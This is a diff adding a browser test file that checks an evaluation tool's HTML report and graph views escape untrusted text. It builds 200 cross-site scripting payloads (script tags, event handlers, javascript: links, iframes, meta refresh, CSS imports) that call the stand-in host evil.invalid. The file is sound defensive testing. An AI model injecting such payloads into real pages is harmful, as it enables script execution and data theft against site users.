@@ -1,0 +1,126 @@
+"""Texts are data: two hundred payloads in every field of a result change nothing and reach nothing."""
+
+from itertools import product
+from pathlib import Path
+
+import pytest
+
+from graph_eval.report import render
+from graph_eval.types import (
+    Claim,
+    Evidence,
+    Example,
+    ItemError,
+    Judgement,
+    Label,
+    Location,
+    Match,
+    Passage,
+    Result,
+    Scores,
+    Slot,
+    Span,
+)
+from tests.browser.conftest import until
+
+EVIL = "window.pwned=1;fetch('http://evil.invalid/')"
+ELEMENTS = (
+    f"<script>{EVIL}</script>",
+    f"<img src=x onerror={EVIL!r}>",
+    f"<svg onload={EVIL!r}></svg>",
+    f"<svg><animate onbegin={EVIL!r} attributeName=x dur=1s></svg>",
+    f"<iframe srcdoc='<script>parent.{EVIL}</script>'></iframe>",
+    "<iframe src='http://evil.invalid/'></iframe>",
+    f"<body onload={EVIL!r}>",
+    f"<details open ontoggle={EVIL!r}>x</details>",
+    f"<video><source onerror={EVIL!r}></video>",
+    f"<input autofocus onfocus={EVIL!r}>",
+    f'<a href="javascript:{EVIL}">x</a>',
+    f"<form action='javascript:{EVIL}'><button>x</button></form>",
+    "<link rel=stylesheet href='http://evil.invalid/x.css'>",
+    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
+    "<base href='http://evil.invalid/'>",
+    "<style>@import 'http://evil.invalid/x.css'; *{background:url(http://evil.invalid/)}</style>",
+    "<object data='http://evil.invalid/'></object>",
+    "<embed src='http://evil.invalid/'>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={EVIL!r}>",
+    f"<template><script>{EVIL}</script></template>",
+)
+BREAKOUTS = (
+    "",
+    "</script>",
+    "\"'>",
+    "</style></title></textarea>",
+    "--><!--",
+    "]]>",
+    "\\u003c/script\\u003e\u2028\u2029",
+    "&lt;&#x3c;&quot;",
+    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
+    "\x0b\ufeff\u202e\u0007",
+)
+PAYLOADS = ["".join(parts) for parts in product(BREAKOUTS, ELEMENTS)]
+
+
+def loaded(n: int, payload: str) -> Result:
+    """A result with the payload wherever a result holds text."""
+    passage = Passage.of(f"{payload} is the context.", payload)
+    example = Example(payload, payload, f"{payload} is said.", (passage,), payload, payload)
+    span, rest = Span(0, len(payload)), Span(len(payload) + 1, len(payload) + 3)
+    slots = (Slot(payload, (span,)), Slot("is", (rest,)), Slot(f"{payload}.", (), inferred=True))
+    sentence = Span(0, len(example.response))
+    claims = (Claim.triplet(example.key, slots, payload, sentence), Claim.whole(example.key, payload, sentence))
+    locations = tuple(Location(part, Match.MISSING, (span,), (payload,)) for part in ("subject", "predicate", "object"))
+    evidence = Evidence(passage.id, span, Scores(0.1, 0.2, 0.7), locations)
+    error = ItemError("check", payload, payload, payload, payload)
+    judgements = (
+        Judgement(claims[0].id, Label.CONTRADICTION, 0.9, True, (evidence,), payload),
+        Judgement.failed(claims[1].id, error),
+    )
+    return Result(n, example, claims, judgements, Label.CONTRADICTION, 0.9, error=error if n % 2 else None)
+
+
+def test_there_are_two_hundred_different_payloads() -> None:
+    assert len(set(PAYLOADS)) == 200
+
+
+@pytest.fixture(scope="module")
+def loaded_pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
+    folder = tmp_path_factory.mktemp("loaded")
+    results = [loaded(n, payload) for n, payload in enumerate(PAYLOADS)]
+    title = "".join(PAYLOADS[20:23])
+    return {view: render(results, folder / f"{view}.html", view, title) for view in ("report", "graph")}
+
+
+def test_the_report_shows_them_as_text(watched, loaded_pages) -> None:
+    page = watched.open(loaded_pages["report"])
+    own = page.evaluate("document.querySelectorAll('*').length")
+    for n, payload in enumerate(PAYLOADS):
+        page.evaluate(f"choose(responses[{n}]); chooseClaim(state.order[0])")
+        page.evaluate("tip.show({ clientX: 1, clientY: 1 }, tipLine(state.claim))")
+        assert page.evaluate("document.querySelector('#response h2').textContent") == payload
+        assert page.evaluate("document.querySelector('#text').textContent") == f"{payload} is said."
+        assert payload in page.evaluate("document.querySelector('#context').textContent")
+    page.evaluate("layOut()")
+    assert_inert(page, own)
+
+
+def test_the_drawing_shows_them_as_text(watched, loaded_pages) -> None:
+    page = watched.open(loaded_pages["graph"], "#all")
+    own = page.evaluate("document.querySelectorAll('*').length")
+    for n, payload in enumerate(PAYLOADS):
+        page.evaluate(f"choose(claims.find((claim) => claim.n === {n}))")
+        page.evaluate("tip.show({ clientX: 1, clientY: 1 }, ...card(state.claim, true))")
+        assert payload in page.evaluate("document.querySelector('#card').textContent")
+    page.keyboard.press("j")
+    until(page, "document.body.dataset.still !== 'no'")
+    assert_inert(page, own)
+
+
+def assert_inert(page: object, elements: int) -> None:
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.pwned") is None
+    for tag in ("iframe", "img", "object", "embed", "base", "video", "form[action]", "a", "[onerror]", "[onload]"):
+        assert page.locator(tag).count() == 0, tag
+    assert page.locator("script").count() <= 4
+    assert page.locator("link").count() == 1
+    assert elements > 20
